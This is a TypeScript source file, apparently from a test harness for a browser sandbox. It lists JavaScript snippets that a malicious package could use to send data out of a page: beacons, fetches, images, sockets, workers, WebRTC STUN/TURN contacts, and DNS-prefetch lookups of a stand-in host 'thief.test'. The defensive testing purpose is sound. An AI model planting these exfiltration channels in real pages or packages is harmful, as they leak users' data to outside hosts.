import type { Listener } from './listener.ts';

/** Code that a malicious package could run in the page to send what it sees; ends when it has been tried. */
export type NetworkAttack = { readonly name: string; readonly code: string };

/** A promise for the first of two events. */
function tried(make: string): string {
  return `new Promise((done) => { ${make} })`;
}

function linked(rel: string, href: string): string {
  return tried(`const link = Object.assign(document.createElement('link'), { rel: '${rel}', href: '${href}' });
    link.onload = link.onerror = done; document.head.append(link);`);
}

function peer(server: string): string {
  return tried(`const peer = new RTCPeerConnection({ iceServers: [${server}] });
    peer.createDataChannel('x');
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done();
    setTimeout(done, 1000);
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));`);
}

/** Requests, each with its name as the path at the listener. */
export function requestAttacks({ address }: Listener): readonly NetworkAttack[] {
  const to = (name: string): string => `${address}/${name}`;
  return [
    { name: 'beacon', code: `navigator.sendBeacon('${to('beacon')}', 'x')` },
    { name: 'fetch', code: `fetch('${to('fetch')}').catch(() => undefined)` },
    {
      name: 'image',
      code: tried(
        `const image = new Image(); image.onload = image.onerror = done; image.src = '${to('image')}';`,
      ),
    },
    {
      name: 'socket',
      code: tried(
        `const socket = new WebSocket('${to('socket').replace('http:', 'ws:')}'); socket.onopen = socket.onerror = done;`,
      ),
    },
    {
      name: 'events',
      code: tried(
        `const source = new EventSource('${to('events')}'); source.onopen = source.onerror = () => { source.close(); done(); };`,
      ),
    },
    { name: 'prefetch', code: linked('prefetch', to('prefetch')) },
    { name: 'stylesheet', code: linked('stylesheet', to('stylesheet')) },
    {
      name: 'script',
      code: tried(
        `const script = document.createElement('script'); script.onload = script.onerror = done;
        try { script.src = '${to('script')}'; document.head.append(script); } catch { done(); }`,
      ),
    },
    {
      name: 'worker',
      code: tried(`const words = "fetch('${to('worker')}').then(() => postMessage(1), () => postMessage(2))";
        try {
          const worker = new Worker(URL.createObjectURL(new Blob([words])));
          worker.onmessage = worker.onerror = done;
        } catch { done(); }`),
    },
  ];
}

/** Ways to contact another computer without a request. */
export function peerAttacks({ stunPort, turnPort }: Listener): readonly NetworkAttack[] {
  return [
    { name: 'stun', code: peer(`{ urls: 'stun:127.0.0.1:${stunPort}' }`) },
    {
      name: 'turn',
      code: peer(
        `{ urls: 'turn:127.0.0.1:${turnPort}?transport=tcp', username: 'a', credential: 'b' }`,
      ),
    },
  ];
}

/** Ways to query a name that carries information; each uses its own name below `thief.test`. */
export const nameAttacks: readonly NetworkAttack[] = [
  { name: 'a link', code: lookedUp('document', 'a-link') },
  {
    name: 'a link in a frame',
    code: `{ const frame = document.createElement('iframe'); document.body.append(frame);
      ${lookedUp('frame.contentDocument', 'a-link-in-a-frame')} }`,
  },
  {
    name: 'a link in a frame of its own markup',
    code: `{ const frame = document.createElement('iframe');
      const markup = '<link rel="dns-prefetch" href="https://a-link-in-a-frame-of-its-own-markup.thief.test">';
      frame.src = URL.createObjectURL(new Blob([markup], { type: 'text/html' })); document.body.append(frame); }`,
  },
];

function lookedUp(document: string, name: string): string {
  return `${document}.head.append(Object.assign(${document}.createElement('link'),
    { rel: 'dns-prefetch', href: 'https://${name}.thief.test' }));`;
}
